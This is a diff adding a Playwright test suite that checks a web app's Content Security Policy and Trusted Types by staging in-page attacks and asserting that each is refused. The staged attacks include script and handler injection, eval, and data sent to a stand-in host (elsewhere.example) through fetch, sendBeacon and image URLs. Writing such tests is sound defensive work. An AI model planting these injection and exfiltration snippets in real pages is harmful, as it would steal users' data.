@@ -1,0 +1,117 @@
+import type { Page } from '@playwright/test';
+import { expect, hostTest as test } from './table.ts';
+
+/** Does something in the page that its policy must refuse, and tells which of its rules did; nothing where it was let through. */
+const refusedBy = (page: Page, attack: () => unknown): Promise<string> =>
+  page.evaluate(
+    `new Promise((known) => {
+      const refused = ({ effectiveDirective }) => known(effectiveDirective);
+      document.addEventListener('securitypolicyviolation', refused, { once: true });
+      Promise.resolve().then(${attack.toString()}).then(() => setTimeout(known, 3000, ''), () => setTimeout(known, 3000, ''));
+    })`,
+  );
+
+/** What an attacker with a foothold in the page would try, by the rule that must stop him. */
+const ATTACKS: readonly (readonly [rule: RegExp, what: string, attack: () => unknown])[] = [
+  [
+    /^(script-src-elem|require-trusted-types-for)$/,
+    'a script written into the page',
+    () => document.body.append(Object.assign(document.createElement('script'), { text: ' ' })),
+  ],
+  [
+    /^(script-src-attr|require-trusted-types-for)$/,
+    'a handler written on an element',
+    () => {
+      const line = document.createElement('p');
+      document.body.append(line);
+      line.setAttribute('onclick', 'document.title = "taken"');
+      line.click();
+    },
+  ],
+  [/^connect-src$/, 'records sent to another host', () => fetch('https://elsewhere.example/', { mode: 'no-cors' })],
+  [
+    /^connect-src$/,
+    'records sent as the page is left',
+    () => navigator.sendBeacon('https://elsewhere.example/', 'men'),
+  ],
+  [
+    /^img-src$/,
+    'records sent as the address of a picture',
+    () => {
+      new Image().src = 'https://elsewhere.example/?men';
+    },
+  ],
+  [
+    /^style-src-elem$/,
+    'a style of another host',
+    () => {
+      const link = { rel: 'stylesheet', href: 'https://elsewhere.example/a.css' };
+      document.head.append(Object.assign(document.createElement('link'), link));
+    },
+  ],
+  [
+    /^frame-src$/,
+    'a page of another host in ours',
+    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' })),
+  ],
+  [
+    /^base-uri$/,
+    'another base for every address',
+    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })),
+  ],
+];
+
+for (const where of ['/', '/recover.html'])
+  for (const [rule, what, attack] of ATTACKS)
+    test(`on ${where} ${what} is refused`, async ({ page }) => {
+      await page.goto(where);
+      expect(await refusedBy(page, attack)).toMatch(rule);
+    });
+
+test('HTML from a text, eval and a second policy are refused by Trusted Types', { tag: '@chromium' }, async ({
+  page,
+}) => {
+  await page.goto('/');
+  const tried = await page.evaluate(async () => {
+    // What the driver itself evaluates may call eval; what follows later is the page's own.
+    await new Promise((later) => setTimeout(later));
+    return [
+      () => {
+        document.body.innerHTML = '<b>taken</b>';
+      },
+      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried
+      () => globalThis.eval('1'),
+      () => document.createElement('script').setAttribute('src', 'https://elsewhere.example/a.js'),
+      () => window.trustedTypes?.createPolicy('another', { createScriptURL: (address) => address }),
+      () => window.trustedTypes?.createPolicy('rollcall', { createScriptURL: (address) => address }),
+    ].map((attack) => {
+      try {
+        attack();
+        return 'let through';
+      } catch {
+        return 'refused';
+      }
+    });
+  });
+  expect(tried).toEqual(['refused', 'refused', 'refused', 'refused', 'refused']);
+});
+
+test('no request leaves the origin while a campaign is begun, fought and backed up', async ({ table, server }) => {
+  const asked = new Set<string>();
+  table.page.context().on('request', (request) => asked.add(new URL(request.url()).origin));
+  await table.page.goto('/');
+  await expect(table.sentence('ready')).toBeVisible();
+  await table.campaign();
+  await table.tab('Play');
+  await table.begin('Close combat', { from: 'Contact' });
+  await table.asShown();
+  await table.enterTotal(24);
+  await table.enterTotal(12);
+  await table.card('2s', 'Ah', '3s', 'Kd', '4s', '5h');
+  await table.accept();
+  await table.page.goto('/#/settings');
+  await expect(table.sentence('backupState').first()).toBeVisible();
+  await table.page.goto('/recover.html');
+  await expect(table.button('saveCopy')).toBeVisible();
+  expect([...asked].map((origin) => `${origin}/`)).toEqual([server.address]);
+});
